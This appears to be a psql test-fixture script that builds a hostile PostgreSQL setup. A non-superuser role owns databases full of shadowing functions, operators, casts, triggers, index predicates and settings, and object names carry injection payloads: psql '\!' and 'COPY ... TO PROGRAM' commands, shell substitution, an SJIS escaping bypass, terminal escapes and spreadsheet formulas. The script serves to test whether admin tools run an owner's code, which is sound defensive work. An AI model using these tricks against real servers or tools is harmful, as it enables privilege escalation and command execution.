-- A PostgreSQL server (14 to 18) on which the role `mallory` owns databases, and nothing else: no superuser, no
-- membership. Everything below is what such a role may do. A program that connects as a superuser, or as anybody else,
-- must not run any of mallory's code.
--
--   psql -X -v ON_ERROR_STOP=1 -v canary=/tmp/canary -f hostile-owner.sql 'host=/tmp user=postgres dbname=postgres'
--
-- `canary` is a path of at most 20 bytes on the machine of the server, in a folder where the server may create files.
-- What shows that an attack succeeded:
--   * the file :canary has a line: mallory's code ran with the rights of a superuser. The line says which attack.
--   * the role `canary` exists: it ran as a superuser in a transaction that can write.
--   * the log of the server has a line `CANARY …`: it ran as whoever the line says. Only session_user=mallory is harmless.
--   * the file :canary.run exists: a name was executed as a command, by psql or by a shell.
--
-- Databases: `shadows` (names that resolve to mallory's objects), `settings` (stored role and parameters), `tables`
-- (expressions, casts and types that a query or a restore evaluates), `names` (hostile names of every kind of object), and
-- databases whose own names are hostile. The table public.swapped of `tables` is for attackers who replace it by a view
-- while somebody reads it: CALL evil.swap() does it once, and CALL evil.swap_back() undoes it.

\set QUIET on
SET client_min_messages = warning;
-- While this is on, the canaries keep quiet: the objects below evaluate them as they are created.
SET adversary.setup = 'on';

CREATE ROLE mallory LOGIN CREATEDB PASSWORD 'mallory';
ALTER ROLE mallory SET application_name = E'mallory\n\\! touch x';
CREATE DATABASE hostile_template OWNER mallory;
\connect -reuse-previous=on hostile_template
SET client_min_messages = warning;
SET adversary.setup = 'on';
SET SESSION AUTHORIZATION mallory;

\ir canary-functions.sql
RESET SESSION AUTHORIZATION;

-- ---------------------------------------------------------------------------------------------------------------------
-- shadows: a search_path that puts mallory's objects before those of pg_catalog
\connect -reuse-previous=on postgres
SET adversary.setup = 'on';
CREATE DATABASE shadows TEMPLATE hostile_template OWNER mallory;
\connect -reuse-previous=on shadows
SET client_min_messages = warning;
SET adversary.setup = 'on';
SET SESSION AUTHORIZATION mallory;

-- Every function of pg_catalog, with the same arguments; set-returning ones, aggregates and windows cannot be imitated so.
DO $$
DECLARE
  f record;
  list text;
BEGIN
  FOR f IN
    SELECT p.proname, p.oid, p.proretset, format_type(p.prorettype, NULL) AS result,
      pg_get_function_identity_arguments(p.oid) AS arguments, p.pronargs, p.provariadic
    FROM pg_catalog.pg_proc p
    WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f' AND NOT p.prorettype = ANY (
      ARRAY['trigger', 'event_trigger', 'internal', 'cstring', 'language_handler', 'fdw_handler', 'index_am_handler', 'table_am_handler',
        'tsm_handler']::pg_catalog.regtype[]::oid[])
      AND NOT EXISTS (SELECT FROM unnest(p.proargtypes) a WHERE a IN ('internal'::regtype, 'cstring'::regtype))
  LOOP
    SELECT pg_catalog.string_agg(CASE WHEN f.provariadic <> 0 AND n = f.pronargs THEN 'VARIADIC $' ELSE '$' END || n, ', ')
      INTO list FROM pg_catalog.generate_series(1, f.pronargs) n;
    BEGIN
      EXECUTE pg_catalog.format(
        'CREATE FUNCTION evil.%I(%s) RETURNS %s %s LANGUAGE plpgsql AS %L', f.proname, f.arguments,
        CASE WHEN f.proretset THEN 'SETOF' ELSE '' END, f.result,
        CASE
          WHEN f.result = 'void' THEN pg_catalog.format('BEGIN PERFORM evil.sing(%L); PERFORM pg_catalog.%I(%s); END',
            'function ' || f.proname, f.proname, list)
          WHEN f.proretset THEN pg_catalog.format('BEGIN PERFORM evil.sing(%L); RETURN QUERY SELECT * FROM pg_catalog.%I(%s); END',
            'function ' || f.proname, f.proname, list)
          ELSE pg_catalog.format('BEGIN PERFORM evil.sing(%L); RETURN pg_catalog.%I(%s); END',
            'function ' || f.proname, f.proname, list)
        END);
    EXCEPTION WHEN OTHERS THEN NULL; -- polymorphic results and the like
    END;
  END LOOP;
END
$$;

-- Every operator, calling the shadow of its function.
DO $$
DECLARE
  o record;
BEGIN
  FOR o IN SELECT oprname, oprleft, oprright, oprcode FROM pg_catalog.pg_operator WHERE oprnamespace = 'pg_catalog'::regnamespace
  LOOP
    BEGIN
      EXECUTE pg_catalog.format('CREATE OPERATOR evil.%s (%s RIGHTARG = %s, FUNCTION = evil.%I)', o.oprname,
        CASE WHEN o.oprleft = 0 THEN '' ELSE pg_catalog.format('LEFTARG = %s,', pg_catalog.format_type(o.oprleft, NULL)) END,
        pg_catalog.format_type(o.oprright, NULL), o.oprcode::text);
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
END
$$;

-- Operators for pairs of types that pg_catalog compares after a cast only: an exact match wins, wherever it stands in the path.
CREATE FUNCTION evil.same_names(name, text) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN PERFORM evil.sing('operator name = text'); RETURN $1 OPERATOR(pg_catalog.=) $2; END $$;
CREATE FUNCTION evil.same_oids(oid, integer) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN PERFORM evil.sing('operator oid = integer'); RETURN $1 OPERATOR(pg_catalog.=) $2::oid; END $$;
CREATE FUNCTION evil.same_classes(regclass, oid) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN PERFORM evil.sing('operator regclass = oid'); RETURN $1::oid OPERATOR(pg_catalog.=) $2; END $$;
CREATE OPERATOR public.= (LEFTARG = oid, RIGHTARG = integer, FUNCTION = evil.same_oids);
CREATE OPERATOR public.= (LEFTARG = regclass, RIGHTARG = oid, FUNCTION = evil.same_classes);
CREATE AGGREGATE evil.count(*) (SFUNC = int8inc, STYPE = int8, INITCOND = '0');

-- Domains with the names of types: a cast to one evaluates its CHECK.
DO $$
DECLARE
  t text;
BEGIN
  FOREACH t IN ARRAY ARRAY['text', 'name', 'oid', 'regclass', 'regproc', 'regprocedure', 'regtype', 'regnamespace', 'regrole', 'json', 'jsonb',
    'inet', 'int2', 'int4', 'int8', 'float8', 'bool', 'timestamptz', 'xid', 'pg_lsn', 'date', 'bytea', 'uuid', 'int2vector', 'oidvector']
  LOOP
    EXECUTE pg_catalog.format('CREATE DOMAIN evil.%I AS pg_catalog.%I CHECK (evil.fire(%L))', t, t, 'type ' || t);
  END LOOP;
END
$$;

-- Every catalog and system view.
DO $$
DECLARE
  c record;
BEGIN
  FOR c IN SELECT relname FROM pg_catalog.pg_class WHERE relnamespace = 'pg_catalog'::pg_catalog.regnamespace AND relkind IN ('r', 'v')
  LOOP
    BEGIN
      EXECUTE pg_catalog.format('CREATE VIEW evil.%I AS SELECT c.* FROM pg_catalog.%I c WHERE evil.sing(%L)',
        c.relname, c.relname, 'relation ' || c.relname);
      EXECUTE pg_catalog.format('GRANT SELECT ON evil.%I TO PUBLIC', c.relname);
    EXCEPTION WHEN OTHERS THEN NULL; -- pg_statistic and pg_authid are not readable
    END;
  END LOOP;
END
$$;

-- Something to report: a table without a key, a sequence, a large object.
CREATE TABLE public.orders (id integer, note pg_catalog.text);
INSERT INTO public.orders VALUES (1, 'a');
UPDATE public.orders SET note = 'b';
CREATE SEQUENCE public.numbers;
SELECT pg_catalog.nextval('public.numbers') \g /dev/null
-- Functions with the names of ours, and of extensions.
CREATE FUNCTION public.setval(regclass, bigint) RETURNS bigint LANGUAGE plpgsql AS $$ BEGIN PERFORM evil.sing('public.setval'); RETURN $2; END $$;
CREATE FUNCTION public.pg_stat_statements() RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN RETURN evil.sing('public.pg_stat_statements'); END $$;
CREATE VIEW public.pg_stat_statements AS SELECT evil.sing('public.pg_stat_statements') AS query;
ALTER DATABASE shadows SET search_path = evil, pg_catalog, public;
RESET SESSION AUTHORIZATION;

-- ---------------------------------------------------------------------------------------------------------------------
-- settings: whatever the owner of a database may set for everybody who connects to it
\connect -reuse-previous=on postgres
CREATE DATABASE settings TEMPLATE hostile_template OWNER mallory;
\connect -reuse-previous=on settings
SET client_min_messages = warning;
SET adversary.setup = 'on';
SET SESSION AUTHORIZATION mallory;
CREATE TABLE public.orders (id integer, note text, born timestamptz DEFAULT '2020-02-01 10:00:00+00', data bytea DEFAULT '\x5c27');
INSERT INTO public.orders VALUES (1, E'\\''"; x');
UPDATE public.orders SET note = E'\\''\n';
CREATE SEQUENCE public."back\slash'quote";
SELECT nextval(E'public."back\\slash''quote"') \g /dev/null
CREATE FUNCTION evil.pg_backend_pid() RETURNS integer LANGUAGE plpgsql AS $$ BEGIN PERFORM evil.sing('pg_backend_pid'); RETURN 1; END $$;
CREATE FUNCTION evil.set_config(text, text, boolean) RETURNS text LANGUAGE plpgsql AS $$ BEGIN PERFORM evil.sing('set_config'); RETURN pg_catalog.set_config($1, $2, $3); END $$;
CREATE FUNCTION evil.current_setting(text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN PERFORM evil.sing('current_setting'); RETURN pg_catalog.current_setting($1); END $$;
-- Read as SJIS, the last byte of the first letter and the backslash are one character: a quote behind them is not escaped.
SELECT format('CREATE SEQUENCE public.%I', E'\u00C1\\'',1);COPY (SELECT 1) TO PROGRAM $$>' || :'canary' || '.run$$;--') \gexec
CREATE SEQUENCE public."É";
SELECT nextval('public."É"') \g /dev/null
CREATE TYPE public.mood AS ENUM ('sad', 'happy');
CREATE FUNCTION evil.mood_same(public.mood, public.mood) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM evil.fire('operator of an enum'); RETURN true; END $$;
CREATE OPERATOR public.= (LEFTARG = public.mood, RIGHTARG = public.mood, FUNCTION = evil.mood_same);
CREATE OPERATOR public.<> (LEFTARG = public.mood, RIGHTARG = public.mood, FUNCTION = evil.mood_same);
CREATE TABLE public.moods (m public.mood);
ALTER TABLE public.moods ADD CHECK (m = 'sad') NOT VALID;
INSERT INTO public.moods VALUES ('sad');
DO $$
DECLARE
  pair text[];
BEGIN
  FOREACH pair SLICE 1 IN ARRAY ARRAY[
    ['search_path', 'evil'], ['role', 'mallory'],
    ['default_transaction_isolation', 'serializable'], ['default_transaction_deferrable', 'on'], ['default_transaction_read_only', 'on'],
    ['client_encoding', 'SJIS'], ['standard_conforming_strings', 'off'], ['backslash_quote', 'on'], ['escape_string_warning', 'off'],
    ['quote_all_identifiers', 'on'], ['bytea_output', 'escape'], ['DateStyle', 'SQL, DMY'], ['IntervalStyle', 'sql_standard'], ['TimeZone', 'Asia/Kathmandu'],
    ['extra_float_digits', '-15'], ['transform_null_equals', 'on'], ['array_nulls', 'off'], ['xmlbinary', 'hex'], ['xmloption', 'document'],
    ['lc_numeric', 'C'], ['row_security', 'off'], ['plan_cache_mode', 'force_custom_plan'], ['force_parallel_mode', 'on'], ['debug_parallel_query', 'on'],
    ['parallel_setup_cost', '0'], ['parallel_tuple_cost', '0'], ['min_parallel_table_scan_size', '0'], ['constraint_exclusion', 'on'],
    ['jit', 'on'], ['jit_above_cost', '0'], ['work_mem', '64'], ['enable_seqscan', 'off'], ['exit_on_error', 'on'],
    ['application_name', E'x\n\\! touch x'], ['check_function_bodies', 'off'], ['client_min_messages', 'debug5'], ['debug_print_parse', 'on'],
    ['idle_in_transaction_session_timeout', '9000'], ['idle_session_timeout', '9000'], ['statement_timeout', '9000'],
    ['lock_timeout', '9000'], ['transaction_timeout', '9000'], ['default_toast_compression', 'pglz'], ['synchronous_commit', 'remote_apply'],
    ['default_tablespace', ''], ['temp_tablespaces', ''], ['geqo', 'on'], ['geqo_threshold', '2'],
    ['commit_siblings', '1'], ['createrole_self_grant', 'set, inherit'], ['password_encryption', 'md5'], ['restrict_nonsystem_relation_kind', '']
  ] LOOP
    BEGIN
      EXECUTE format('ALTER DATABASE settings SET %I = %L', pair[1], pair[2]);
    EXCEPTION WHEN OTHERS THEN NULL; -- unknown to this release
    END;
  END LOOP;
  ALTER DATABASE settings SET search_path = evil, pg_catalog;
END
$$;
RESET SESSION AUTHORIZATION;

-- ---------------------------------------------------------------------------------------------------------------------
-- tables: expressions that planning, reading, casting or restoring evaluates
\connect -reuse-previous=on postgres
CREATE DATABASE tables TEMPLATE hostile_template OWNER mallory;
\connect -reuse-previous=on tables
SET client_min_messages = warning;
SET adversary.setup = 'on';
SELECT current_setting('server_version_num')::int >= 150000 AS is_15, current_setting('server_version_num')::int >= 180000 AS is_18 \gset
SET SESSION AUTHORIZATION mallory;

-- Casts which no dependency records: to_json, format and others find them when they run.
CREATE TYPE public.mood AS ENUM ('sad', 'happy');
CREATE FUNCTION evil.mood_json(public.mood) RETURNS json LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM evil.fire('cast to json'); RETURN '1'; END $$;
CREATE FUNCTION evil.mood_jsonb(public.mood) RETURNS jsonb LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM evil.fire('cast to jsonb'); RETURN '1'; END $$;
CREATE FUNCTION evil.mood_text(public.mood) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM evil.fire('cast to text'); RETURN 'x'; END $$;
CREATE FUNCTION evil.mood_number(public.mood) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM evil.fire('cast to integer'); RETURN 1; END $$;
CREATE CAST (public.mood AS json) WITH FUNCTION evil.mood_json(public.mood) AS IMPLICIT;
CREATE CAST (public.mood AS jsonb) WITH FUNCTION evil.mood_jsonb(public.mood) AS IMPLICIT;
CREATE CAST (public.mood AS text) WITH FUNCTION evil.mood_text(public.mood) AS IMPLICIT;
CREATE CAST (public.mood AS integer) WITH FUNCTION evil.mood_number(public.mood) AS IMPLICIT;
CREATE TYPE public.pair AS (a integer, b public.mood);
CREATE FUNCTION evil.pair_text(public.pair) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM evil.fire('cast of a composite'); RETURN 'x'; END $$;
CREATE CAST (public.pair AS text) WITH FUNCTION evil.pair_text(public.pair) AS IMPLICIT;
CREATE DOMAIN public.checked AS text CHECK (evil.fire('CHECK of a domain'));
CREATE DOMAIN public.defaulted AS integer DEFAULT evil.fire_number('DEFAULT of a domain');
CREATE FUNCTION evil.range_difference(float8, float8) RETURNS float8 LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM evil.fire('subtype_diff of a range'); RETURN 1; END $$;
CREATE TYPE public.span AS RANGE (subtype = float8, subtype_diff = evil.range_difference);

-- Expressions that the planner evaluates as it opens the table: constant arguments.
CREATE TABLE public.planned (id integer, n integer, t text, CONSTRAINT planned_check CHECK (evil.fire('CHECK')));
CREATE INDEX planned_predicate ON public.planned (id) WHERE evil.fire('predicate of an index');
CREATE INDEX planned_expression ON public.planned ((evil.fire('expression of an index')));
CREATE INDEX planned_hash ON public.planned USING hash (n);
CREATE STATISTICS public.planned_statistics ON (evil.fire('extended statistics')), n FROM public.planned;
INSERT INTO public.planned SELECT n, n, 'x' FROM generate_series(1, 200) n;
ANALYZE public.planned;
UPDATE public.planned SET t = 'y' WHERE id < 50;
-- No key and a hash index on a nullable column: the row scan of columns-missed-by-index.
CREATE TABLE public.hashed (n integer, m public.mood);
CREATE INDEX hashed_n ON public.hashed USING hash (n);
CREATE INDEX hashed_predicate ON public.hashed (m) WHERE evil.fire('predicate beside a hash index');
CREATE STATISTICS public.hashed_statistics ON (evil.fire('statistics beside a hash index')), n FROM public.hashed;
INSERT INTO public.hashed VALUES (NULL, 'sad'), (1, 'happy');
UPDATE public.hashed SET m = 'sad';

-- Constraints that checks read rows for: NOT VALID, dates in the future, types that name functions, generated columns.
CREATE TABLE public.unvalidated (id integer, m public.mood, CONSTRAINT sure CHECK (m = 'sad' OR evil.fire('NOT VALID')) NOT VALID);
ALTER TABLE public.unvalidated ADD CONSTRAINT by_time CHECK (id > 0 AND now() < '2000-01-01' OR evil.fire('CHECK with now()')) NOT VALID;
CREATE INDEX unvalidated_predicate ON public.unvalidated (id) WHERE evil.fire('predicate beside NOT VALID');
INSERT INTO public.unvalidated VALUES (1, 'sad');
CREATE TABLE public.parents (id integer PRIMARY KEY);
CREATE TABLE public.children (id integer PRIMARY KEY, parent integer);
INSERT INTO public.children VALUES (1, 7);
CREATE INDEX children_predicate ON public.children (parent) WHERE evil.fire('predicate beside a foreign key');
CREATE INDEX parents_predicate ON public.parents (id) WHERE evil.fire('predicate of a referenced table');
ALTER TABLE public.children ADD CONSTRAINT children_parent FOREIGN KEY (parent) REFERENCES public.parents NOT VALID;
CREATE TABLE public.named (id integer, f regproc, c regclass, t regtype, o oid);
INSERT INTO public.named VALUES (1, 'evil.sing', 'public.planned', 'public.mood', 99999);
CREATE INDEX named_predicate ON public.named (id) WHERE evil.fire('predicate beside regproc');
CREATE TABLE public.generated (id integer, g boolean GENERATED ALWAYS AS (evil.fire('generated column')) STORED);
INSERT INTO public.generated VALUES (1);
CREATE TABLE public.json_rows (id integer, j json, jb jsonb, x xml, m public.mood, p public.pair, s public.span, d public.checked, a public.mood[]);
INSERT INTO public.json_rows VALUES (1, '{"a":"\u0000"}', '{}', '<a/>', 'sad', (1, 'sad'), '[1,2]', 'x', '{sad}');
CREATE INDEX json_rows_predicate ON public.json_rows (id) WHERE evil.fire('predicate beside json');
UPDATE public.json_rows SET id = 2;
CREATE TABLE public.late (born timestamptz CHECK (born > now() - interval '1 day' OR evil.fire('CHECK with now')), v text CHECK (v = version() OR evil.fire('CHECK with version()')));
INSERT INTO public.late VALUES (now(), 'x');
CREATE TABLE public.settled (n float8, CHECK (n::text = '0.1' OR evil.fire('CHECK that depends on settings')), s text CHECK (s ~ current_setting('DateStyle') OR evil.fire('CHECK with current_setting')));
INSERT INTO public.settled VALUES (0.5, 'x');
CREATE TABLE public.texts (id integer, t text COLLATE "C", c char(3), b bit varying);
CREATE INDEX texts_predicate ON public.texts (t) WHERE evil.fire('predicate beside text');
INSERT INTO public.texts VALUES (1, 'é', 'x', B'1');

-- Partitions: keys and bounds are expressions as well.
CREATE TABLE public.parted (id integer, n integer) PARTITION BY LIST ((CASE WHEN evil.fire('key of a partition') THEN n END));
CREATE TABLE public.parted_one PARTITION OF public.parted FOR VALUES IN (1);
CREATE TABLE public.ranged (id integer) PARTITION BY RANGE (id);
CREATE TABLE public.ranged_one PARTITION OF public.ranged FOR VALUES FROM (1) TO (2);
INSERT INTO public.parted VALUES (1, 1);

-- Row security, rules, triggers, views.
CREATE TABLE public.secured (id integer PRIMARY KEY);
INSERT INTO public.secured VALUES (1);
ALTER TABLE public.secured ENABLE ROW LEVEL SECURITY;
ALTER TABLE public.secured FORCE ROW LEVEL SECURITY;
CREATE POLICY reading ON public.secured USING (evil.sing('policy'));
CREATE TABLE public.triggered (id integer PRIMARY KEY, n integer DEFAULT evil.fire_number('DEFAULT'));
CREATE TRIGGER always_row BEFORE INSERT OR UPDATE OR DELETE ON public.triggered FOR EACH ROW EXECUTE FUNCTION evil.fire_trigger();
CREATE TRIGGER always_statement AFTER TRUNCATE ON public.triggered EXECUTE FUNCTION evil.fire_trigger();
ALTER TABLE public.triggered ENABLE ALWAYS TRIGGER always_row;
ALTER TABLE public.triggered ENABLE REPLICA TRIGGER always_statement;
CREATE RULE noisy AS ON UPDATE TO public.triggered DO ALSO SELECT evil.sing('rule');
INSERT INTO public.triggered VALUES (1, 1);
CREATE VIEW public.watched AS SELECT id FROM public.triggered WHERE evil.sing('view');
CREATE MATERIALIZED VIEW public.filled AS SELECT evil.fire('materialized view') AS fired;
CREATE MATERIALIZED VIEW public.indexed AS SELECT 1 AS id;
CREATE UNIQUE INDEX indexed_id ON public.indexed ((evil.fire_number('index of a materialized view')));
-- Functions and procedures with defaults, and one that runs as its owner.
CREATE FUNCTION public.with_default(a boolean DEFAULT evil.fire('DEFAULT of an argument')) RETURNS boolean LANGUAGE sql AS 'SELECT a';
CREATE FUNCTION public.definer() RETURNS boolean LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN RETURN evil.sing('SECURITY DEFINER'); END $$;
CREATE SEQUENCE public.counter;
SELECT nextval('public.counter') \g /dev/null
CREATE TABLE public.counted (id integer PRIMARY KEY DEFAULT nextval('public.counter'));
CREATE TABLE public.swapped (id integer PRIMARY KEY, t text, CHECK (id > 0 AND now() < 'infinity') NOT VALID);
INSERT INTO public.swapped SELECT n, 'x' FROM generate_series(1, 500) n;
CREATE PROCEDURE evil.swap() LANGUAGE plpgsql AS $$
BEGIN
  ALTER TABLE public.swapped RENAME TO swapped_table;
  CREATE VIEW public.swapped AS SELECT id, t FROM public.swapped_table WHERE evil.sing('swapped view');
  GRANT SELECT ON public.swapped TO PUBLIC;
END
$$;
CREATE PROCEDURE evil.swap_back() LANGUAGE plpgsql AS $$
BEGIN
  DROP VIEW public.swapped;
  ALTER TABLE public.swapped_table RENAME TO swapped;
END
$$;
-- A row filter runs in the walsender of whoever subscribes.
\if :is_15
CREATE PUBLICATION filtered FOR TABLE public.secured WHERE (id > 0);
CREATE UNIQUE INDEX planned_nulls ON public.planned (id) NULLS NOT DISTINCT WHERE evil.fire('unique predicate') AND id IS NULL;
\endif
\if :is_18
CREATE TABLE public.computed (id integer, v integer GENERATED ALWAYS AS (id * 2) VIRTUAL);
INSERT INTO public.computed VALUES (1);
\endif
RESET SESSION AUTHORIZATION;

-- ---------------------------------------------------------------------------------------------------------------------
-- names: hostile names of every kind of object. Each fits 63 bytes.
\connect -reuse-previous=on postgres
CREATE DATABASE names TEMPLATE hostile_template OWNER mallory;
\connect -reuse-previous=on names
SET client_min_messages = warning;
SET adversary.setup = 'on';
SET SESSION AUTHORIZATION mallory;
CREATE TABLE evil.names (n integer, name text);
CREATE SCHEMA sequences;
CREATE SCHEMA types;
CREATE SCHEMA views;
CREATE SCHEMA unlogged;
INSERT INTO evil.names
SELECT row_number() OVER (), name FROM (
  SELECT replace(pattern, 'FILE', :'canary' || '.run') FROM unnest(ARRAY[
    E'n\n\\! touch FILE',
    E'r\r\\! touch FILE',
    E'c\n; COPY (SELECT 1) TO PROGRAM ''>FILE'';',
    E'd"; COPY (SELECT 1) TO PROGRAM ''>FILE''; --',
    E's''; COPY (SELECT 1) TO PROGRAM ''>FILE''; --',
    E'b\\''; COPY (SELECT 1) TO PROGRAM ''>FILE'';--',
    E'*/ COPY (SELECT 1) TO PROGRAM ''>FILE''; /*',
    E'$$; \\! touch FILE',
    E'$fix$ \\! touch FILE',
    E'`touch FILE`',
    E'$(touch FILE)',
    E'host=192.0.2.1 dbname=x',
    E'postgres://192.0.2.1/x',
    E'-c\\!touch FILE',
    E'--command=\\! touch FILE',
    E':canary :''canary'' :"canary" :{?canary}',
    E'%s%n%41%0a',
    E'e\x1b]0;owned\x07\x1b[2J\x1b[31mred',
    E'u\u202Eevil\u2066x\u200b\ufeff\u0085\u2028',
    E'f\nverdict: continuous',
    E'g\n::error file=x::owned',
    E'=cmd|'' /C calc''!A0',
    E'+1+1', E'-1', E'@SUM(1)', E'\t=1+1',
    E'<script>alert(1)</script>', E'"onload="x', E']]>&x;', E'| a | [x](javascript:x) `',
    E'\\', E'a\\', E'\\q', E'\\connect evil', E'''', E'"', E'""', E' ', E'.', E'..', E'/', E'a.b', E'pg_class', E'select',
    E'\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9x'
  ]) AS pattern
) AS filled (name);
SELECT format($make$
  DO $do$
  DECLARE
    n text := %L;
    settings record;
  BEGIN
    BEGIN EXECUTE format('CREATE SCHEMA %%I', n); EXCEPTION WHEN duplicate_schema OR reserved_name THEN NULL; END;
    EXECUTE format('CREATE TABLE public.%%I (%%I integer, %%I text DEFAULT %%L)', n, n, left(n, 25) || ' 2', n);
    EXECUTE format('INSERT INTO public.%%I VALUES (1)', n);
    EXECUTE format('UPDATE public.%%I SET %%I = 2', n, n);
    EXECUTE format('COMMENT ON TABLE public.%%I IS %%L', n, n);
    EXECUTE format('CREATE TABLE %%I.%%I (%%I integer UNIQUE)', CASE WHEN n = 'pg_class' THEN 'public' ELSE n END, left(n, 20) || ' x', n);
    EXECUTE format('CREATE SEQUENCE sequences.%%I', n);
    PERFORM nextval(format('sequences.%%I', n));
    EXECUTE format('CREATE TYPE types.%%I AS ENUM (%%L)', n, n);
    EXECUTE format('CREATE FUNCTION public.%%I(%%I integer DEFAULT 1) RETURNS text LANGUAGE sql AS %%L', n, n, format('SELECT %%L::text', n));
    EXECUTE format('CREATE MATERIALIZED VIEW views.%%I AS SELECT 1 AS %%I', n, n);
    EXECUTE format('ALTER TABLE public.%%I ADD CONSTRAINT %%I CHECK (%%I > 0 AND now() < ''infinity'') NOT VALID', n, n, n);
    EXECUTE format('CREATE INDEX %%I ON public.%%I USING hash (%%I)', left(n, 25) || ' index', n, n);
    EXECUTE format('CREATE PUBLICATION %%I FOR TABLE public.%%I', n, n);
    EXECUTE format('CREATE UNLOGGED TABLE unlogged.%%I (%%I oid)', n, n);
    EXECUTE format('CREATE COLLATION public.%%I FROM "C"', n);
  END
  $do$ $make$, name) FROM evil.names ORDER BY n
\gexec
SELECT lo_create(0) \g /dev/null
-- Commands of psql in a body.
CREATE FUNCTION public.body() RETURNS text LANGUAGE sql AS E'SELECT ''\n\\! touch x\n\\connect evil\n\\q\n''::text';
ALTER DATABASE names SET application_name = E'\n\\! touch x\n::error::owned';
-- The gid of a prepared transaction is free text.
SELECT current_setting('max_prepared_transactions')::int > 0 AS can_prepare, :'canary' || '.run' AS file \gset
\if :can_prepare
BEGIN;
INSERT INTO public.select VALUES (2);
SELECT format('PREPARE TRANSACTION %L', E'p\n\\! touch ' || :'file' || E'\n; COPY (SELECT 1) TO PROGRAM ''>' || :'file' || ''';')
\gexec
\endif
-- Settings of roles and databases which scripts restore.
ALTER ROLE mallory SET statement_timeout = '5s';
SELECT format('ALTER ROLE mallory SET temp_tablespaces = %L', '') \gexec
-- Databases with hostile names.
SELECT format('CREATE DATABASE %I OWNER mallory TEMPLATE template0', name) FROM evil.names WHERE n IN (1, 4, 5, 12)
\gexec
RESET SESSION AUTHORIZATION;
\connect -reuse-previous=on postgres
DROP DATABASE hostile_template;
